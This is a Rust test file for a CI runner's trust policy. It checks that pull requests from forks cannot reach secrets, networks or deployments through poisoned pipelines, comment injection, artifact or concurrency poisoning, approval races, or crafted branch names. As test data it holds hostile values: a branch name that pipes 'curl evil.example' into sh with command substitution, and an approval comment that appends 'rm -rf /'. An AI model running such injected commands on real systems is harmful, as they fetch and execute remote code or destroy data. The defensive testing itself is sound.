//! Attacks that were published on runners of others, as far as a decision stands against them. The whole way is in `tests/trust`.

use super::*;
use crate::core::plan::{Invoke, Work};
use crate::model::limits::Network;
use crate::model::policy::Text;

/// What a repository's own pipeline may look like, with everything that a stranger would like to have.
const BASE: &str = "name: p\non: { pull_request: {} }\nsteps:\n  test: { run: ./test.sh, network: open, outputs: { bundle: app.zip } }\n  ship: { needs: test, environment: production, deploy: { function: shop, artifact: test.bundle } }\nfunctions:\n  shop: { runtime: provided.al2023 }\n";

fn invoke(plan: &Plan, node: &str) -> Invoke {
    match plan.node(&NodeId::new(node)).map(|node| node.work.clone()) {
        Some(Work::Invoke(invoke)) => invoke,
        other => panic!("{node}: {other:?}"),
    }
}

/// The base's pipeline with the head's code in its hands: there is nothing there to steal, and nothing to reach.
#[test]
fn pwn_request() {
    let (event, policy) = (fork_pull(Association::FirstTimer), Policy::default());
    let approved = [approval(event.commit.clone())];
    assert_eq!(word(&decide(&policy, &event, stranger(), &[])), "wait untrusted");
    assert_eq!(decide(&policy, &event, stranger(), &approved), Decision::Run { trust: Trust::Untrusted });
    let plan = restrict(guard(plan_of(BASE, &event), &policy), &policy);
    assert_eq!(plan.trust, Trust::Untrusted);
    assert_eq!(invoke(&plan, "test").network, Network::None);
    assert!(held(&plan, "ship").is_some_and(|why| why.contains("not trusted")));
    assert_eq!(plan.node(&NodeId::new("ship")).and_then(|node| node.environment.clone()), None);
}

/// Direct: the head has another pipeline. It is not the one that is planned; and where the policy lets it be, the plan is as restricted.
#[test]
fn poisoned_pipeline_direct() {
    let event = fork_pull(Association::Contributor);
    assert_eq!(text(&Policy::default(), Trust::Untrusted), Text::Base);
    let open = policy_of("forks: { run: first-time, pipeline: head, network: [\"crates.io:443\"] }");
    assert_eq!(decide(&open, &event, stranger(), &[]), Decision::Run { trust: Trust::Untrusted });
    let poisoned = "name: p\nsteps:\n  steal: { run: env, network: open, timeout: 24h, resources: { memory: 512GiB, cpu: 64 }, retry: { attempts: 10, on: [failed] } }\n  \
                    image: { run: x, image: registry.internal/secret }\n  beside: { run: x, services: { db: { image: registry.internal/secret } } }\n  \
                    gate: { run: x, environment: production }\n  ship: { needs: made, deploy: { function: shop, artifact: made.zip } }\n  made: { run: x, outputs: { zip: a.zip } }\nfunctions:\n  shop: { runtime: provided.al2023 }\n";
    let plan = restrict(guard(plan_of(poisoned, &event), &open), &open);
    let steal = plan.node(&NodeId::new("steal")).expect("it");
    assert_eq!((steal.timeout.as_secs(), steal.retry.attempts), (1800, 2));
    let only = invoke(&plan, "steal");
    assert_eq!(only.network, Network::Only(vec!["crates.io:443".parse().expect("a rule")]));
    assert_eq!((only.resources.memory, only.resources.cpu), (Some(4 << 30), Some(2.0)));
    for node in ["image", "beside", "gate", "ship"] {
        assert!(held(&plan, node).is_some(), "{node} would run");
    }
}

/// Indirect: the base's pipeline runs a script of the head. What its outputs say does not choose an image, whose name would be sent somewhere with credentials.
#[test]
fn poisoned_pipeline_indirect() {
    let text = "name: p\nsteps:\n  test: { run: make test, network: [\"internal.example.com:443\"] }\n  next: { needs: test, run: x, image: \"${{ steps.test.outputs.image }}\" }\n";
    let event = fork_pull(Association::None);
    let plan = restrict(guard(plan_of(text, &event), &Policy::default()), &Policy::default());
    assert_eq!(invoke(&plan, "test").network, Network::None);
    assert!(held(&plan, "next").is_some_and(|why| why.contains("choose its image")));
}

/// What is said in a comment is said by somebody: an approval hidden in a stranger's words approves nothing, and names a commit.
#[test]
fn comment_injection() {
    let policy = Policy::default();
    let head = commit('2');
    for (by, permission, said) in [
        ("sam", Permission::Read, Some("2222222")),
        ("mary", Permission::Write, None),
        ("mary", Permission::Write, Some("2")),
        ("mary", Permission::Write, Some("222222")),
        ("mary", Permission::Write, Some("1111111")),
        ("mary", Permission::Write, Some("2222222; rm -rf /")),
        ("mary", Permission::Write, Some("HEAD")),
        ("mary", Permission::Write, Some("")),
        ("helper[bot]", Permission::Admin, Some("2222222")),
    ] {
        assert!(approve(&policy, (&actor(by), permission), said, &head, &[]).is_err(), "{by} {said:?}");
    }
    let approved = approve(&policy, (&actor("mary"), Permission::Write), Some("2222222"), &head, std::slice::from_ref(&head));
    assert_eq!(approved, Ok(approval(head.clone())));
    // Somebody who may run, but has not looked: the stranger's commit waits all the same.
    let mut event = fork_pull(Association::None);
    event.context.actor = Some(actor("mary"));
    assert_eq!(word(&decide(&policy, &event, who(Permission::Admin, Permission::Read), &[])), "wait untrusted");
}

/// What an untrusted run has left is never taken for what a trusted one would have.
#[test]
fn artifact_poisoning() {
    let commit = commit('2');
    let origin = |trust| Origin { repository: "shop/shop", pipeline: ".tidegate/p.yaml", commit: &commit, trust };
    assert!(repeatable(origin(Trust::Untrusted), origin(Trust::Trusted)).is_err());
    assert!(repeatable(origin(Trust::Trusted), origin(Trust::Untrusted)).is_err());
    assert_eq!(repeatable(origin(Trust::Untrusted), origin(Trust::Untrusted)), Ok(()));
    let other = super::commit('3');
    assert!(repeatable(origin(Trust::Trusted), Origin { commit: &other, ..origin(Trust::Trusted) }).is_err());
    assert!(repeatable(origin(Trust::Trusted), Origin { pipeline: ".tidegate/q.yaml", ..origin(Trust::Trusted) }).is_err());
    assert!(repeatable(origin(Trust::Trusted), Origin { repository: "sam/shop", ..origin(Trust::Trusted) }).is_err());
}

/// A stranger's run gets no trusted one out of its way, whatever group the file names.
#[test]
fn concurrency_poisoning() {
    use crate::model::request::{Group, Waiting};
    let group = || Group { name: "deploy".into(), supersede: true, queue: Waiting::Latest };
    let trusted = apart(group(), &event(EventKind::Push), Trust::Trusted);
    assert_eq!(trusted, group());
    let stranger = apart(group(), &fork_pull(Association::None), Trust::Untrusted);
    let mut other = fork_pull(Association::None);
    other.context.pull.iter_mut().for_each(|pull| pull.number = 8);
    let other = apart(group(), &other, Trust::Untrusted);
    assert!(trusted.name != stranger.name && stranger.name != other.name);
    // Nor by a name that looks like another's.
    let forged = Group { name: stranger.name.clone(), ..group() };
    assert_ne!(apart(forged, &fork_pull(Association::None), Trust::Untrusted).name, stranger.name);
}

/// Somebody pushes right after the approval: it was for what they had shown.
#[test]
fn approval_race() {
    let policy = Policy::default();
    let shown = fork_pull(Association::None);
    let approvals = [approval(shown.commit.clone())];
    let mut pushed = shown.clone();
    pushed.commit = commit('3');
    pushed.context.pull.iter_mut().for_each(|pull| pull.head.commit = commit('3'));
    assert_eq!(word(&decide(&policy, &pushed, stranger(), &approvals)), "wait untrusted");
    assert!(void(&shown, Some(&commit('3'))).is_some_and(|why| why.contains("33333333")));
    assert!(void(&shown, None).is_some_and(|why| why.contains("closed")));
    assert_eq!(void(&shown, Some(&shown.commit)), None);
    assert_eq!(void(&event(EventKind::Push), None), None);
    // What closing it starts is not void by that; by another head it is.
    let mut closed = shown.clone();
    closed.context.action = Some("closed".to_owned());
    assert_eq!(void(&closed, None), None);
    assert!(void(&closed, Some(&commit('3'))).is_some());
    // Between the look and the word, to a commit that was made to begin like the one that was shown.
    let (first, second) = (CommitId::new(format!("abcdef1{}", "0".repeat(33))), CommitId::new(format!("abcdef1{}", "f".repeat(33))));
    let mary = actor("mary");
    let say = |said: &str| approve(&policy, (&mary, Permission::Write), Some(said), &second, &[first.clone(), second.clone()]);
    assert!(say("abcdef1").is_err_and(|why| why.contains("several commits")));
    assert!(say(first.as_str()).is_err());
    assert_eq!(say(second.as_str()).map(|approval| approval.commit), Ok(second.clone()));
}

/// A tag says nothing of the commit that somebody looked at; the same name with another commit is another thing.
#[test]
fn tag_moved_after_approval() {
    let policy = policy_of("push: { from: maintain }");
    let mut tag = event(EventKind::Push);
    tag.reference = "refs/tags/v1".into();
    let approvals = [approval(tag.commit.clone())];
    let may_write = who(Permission::Write, Permission::None);
    assert_eq!(word(&decide(&policy, &tag, may_write, &approvals)), "run");
    tag.commit = commit('4');
    assert_eq!(word(&decide(&policy, &tag, may_write, &approvals)), "wait");
}

/// Branch, title and author are words in a script, whoever chose them.
#[test]
fn names_that_would_be_code() {
    let evil = "x\"; curl evil.example | sh; `id` $(id) ${{ steps.a.outputs.b }} 'y";
    let mut event = fork_pull(Association::None);
    (event.branch, event.subject, event.author) = (Some(evil.into()), evil.into(), evil.into());
    event.reference = format!("refs/heads/{evil}");
    let text = "name: p\nsteps:\n  say: { run: \"echo ${{ event.branch }} ${{ event.subject }} ${{ event.author }} ${{ event.ref }}\" }\n  \
                greet: { uses: ./greet, with: { whom: \"${{ event.branch }}\" } }\n";
    let plan = restrict(guard(plan_of(text, &event), &Policy::default()), &Policy::default());
    let word = format!("'{}'", evil.replace('\'', r"'\''"));
    let (script, _) = invoke(&plan, "say").resolve(&serde_json::json!({})).expect("resolves");
    assert_eq!(script, format!("echo {word} {word} {word} '{}'", event.reference.replace('\'', r"'\''")));
    let (script, _) = invoke(&plan, "greet").resolve(&serde_json::json!({})).expect("resolves");
    assert_eq!(script, format!("echo {word}"));
}
